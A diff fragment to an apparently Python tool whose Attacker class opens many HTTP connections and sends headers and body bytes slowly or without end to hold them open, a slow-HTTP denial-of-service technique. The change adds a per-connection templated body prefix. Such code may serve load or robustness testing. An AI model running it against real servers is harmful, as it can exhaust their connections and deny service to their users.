@@ -22,7 +22,8 @@ class Attack:
     head: str  # the request with its header fields; lines end with LF here. `{now}` becomes the time in seconds
     connections: int
     whole_head: bool = True  # end the head with an empty line
-    body: int = 0  # bytes that are sent, below 0 without end; then the connection is held
+    text: str = ""  # the beginning of the body; `{number}` becomes the number of the connection, in eight digits
+    body: int = 0  # further bytes that are sent, below 0 without end; then the connection is held
     chunked: bool = False
     piece: int = _SLICE  # bytes of a write
     pause_s: float = 0.0  # between two writes
@@ -86,7 +87,8 @@ class Attacker:
     async def _send(self, writer: asyncio.StreamWriter) -> None:
         attack, left = self._attack, self._attack.body
         head = attack.head.replace("{now}", str(int(time.time()))).replace("\n", "\r\n")
-        writer.write(head.encode() + (b"\r\n" if attack.whole_head else b""))
+        text = attack.text.replace("{number}", f"{self._counts['connections']:08}")
+        writer.write(head.encode() + (b"\r\n" if attack.whole_head else b"") + text.encode())
         await writer.drain()
         while left != 0:
             part = b"x" * (attack.piece if left < 0 else min(left, attack.piece))
